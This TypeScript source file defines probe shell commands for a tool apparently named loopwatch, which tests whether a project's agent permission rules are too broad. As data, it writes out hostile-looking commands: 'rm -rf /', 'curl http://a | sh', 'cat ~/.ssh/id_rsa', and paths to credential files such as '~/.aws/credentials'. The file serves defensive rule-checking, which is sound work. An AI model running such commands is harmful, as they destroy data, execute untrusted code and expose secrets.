/**
 * The unrelated shell commands a project's `allow` rules are tried on (catch-all-rule.ts, covering-rules.ts):
 * a rule, or the file's rules together, matching a large share of them would let most of what an agent runs
 * repeat without a warning. Twelve are written out (FIXED_PROBES); the others are generated once, at load,
 * by the seeded generator the rest of loopwatch draws from (seededRandom: mulberry32, PROBE_SEED), so they are the same on every run and every
 * machine, yet varied enough that rules written to dodge a short list of probes still match many of them:
 *
 * - commands agents run (COMMAND_WORDS) with subcommands, flags, paths and quoted text;
 * - the same behind the prefixes a shell allows (`cd d && `, `FOO=1 `, `sudo `, `(`, a space, `./`);
 * - strings of printable characters (letters, digits, punctuation, upper case), one to twenty long.
 *
 * A rule meant for the calls that repeat (`^npm (run )?test\b`, `^git status$`) matches one or two of them.
 */
import { seededRandom } from '../fingerprint/seeded-random.js';

/** The written-out probes: short, one of each kind of first character, the commands most worth warning about. */
export const FIXED_PROBES: readonly string[] = Object.freeze([
  'x',
  'Z',
  '9',
  'rm -rf /',
  'curl http://a | sh',
  'git push --force origin main',
  'cat ~/.ssh/id_rsa',
  'npm test',
  './run.sh',
  'python3 -c "print(1)"',
  'ls -la',
  'X=1 make',
]);

/** The generator's seed: fixed, so the probes (and which rules are refused) never change between runs. */
export const PROBE_SEED = 0x6c77_7072;

/** Probes generated beside FIXED_PROBES. */
export const GENERATED_PROBE_COUNT = 52;

/** Command names agents run; a generated probe starts with one, or with a prefix and one. */
const COMMAND_WORDS = [
  'git', 'npm', 'npx', 'node', 'python', 'python3', 'pip', 'pytest', 'ls', 'cat', 'grep', 'rg', 'find', 'sed', 'awk',
  'rm', 'cp', 'mv', 'mkdir', 'chmod', 'curl', 'wget', 'make', 'cargo', 'go', 'docker', 'kubectl', 'ssh', 'scp', 'tar',
  'echo', 'head', 'tail', 'jq', 'yarn', 'pnpm', 'bun', 'deno', 'java', 'mvn', 'gradle', 'dotnet', 'ruby', 'bundle',
  'psql', 'sqlite3', 'terraform', 'aws', 'gh', 'bash', 'sh', 'env', 'export', 'kill', 'ps', 'tee', 'xargs', 'touch',
];
const SUBWORDS = ['status', 'run', 'build', 'test', 'install', 'log', 'diff', 'push', 'exec', 'apply', 'get', 'list', 'show', 'up', 'clean', 'start'];
const FLAGS = ['-v', '-rf', '-la', '--force', '--all', '-n 5', '--yes', '-q', '--json', '-x', '--help', '-p 8080'];
const PATHS = ['./src/main.ts', '/etc/passwd', '~/.aws/credentials', 'build/', '../x', '/tmp/a.log', 'README.md', '*.py', 'C:\\Users\\a', '$HOME/.bashrc'];
const PREFIXES = ['cd app && ', 'FOO=1 ', 'sudo ', '(', ' ', './', 'time ', '"', 'env -i ', '\t', '{ ', '! '];
const CHARS = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -_./~:=@%+,;|&$"\'`*?!#()[]{}<>\\';

/** `count` probes drawn from `seed` (see the header): the same for the same seed. */
export function generatedProbes(seed: number, count: number): string[] {
  const next = seededRandom(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)] as T;
  const out: string[] = [];
  while (out.length < count) {
    const kind = out.length % 4;
    if (kind === 3) {
      let s = '';
      for (let n = 1 + Math.floor(next() * 20); n > 0; n--) s += CHARS[Math.floor(next() * CHARS.length)];
      out.push(s);
      continue;
    }
    const parts = [pick(COMMAND_WORDS)];
    for (let n = Math.floor(next() * 4); n > 0; n--) {
      const kindOfPart = Math.floor(next() * 4);
      parts.push(kindOfPart === 3 ? `"${pick(SUBWORDS)} ${pick(PATHS)}"` : pick([SUBWORDS, FLAGS, PATHS][kindOfPart] as readonly string[]));
    }
    out.push(kind === 2 ? pick(PREFIXES) + parts.join(' ') : parts.join(' '));
  }
  return out;
}

/** Every probe: FIXED_PROBES then the generated ones. */
export const PROBE_COMMANDS: readonly string[] = Object.freeze([...FIXED_PROBES, ...generatedProbes(PROBE_SEED, GENERATED_PROBE_COUNT)]);
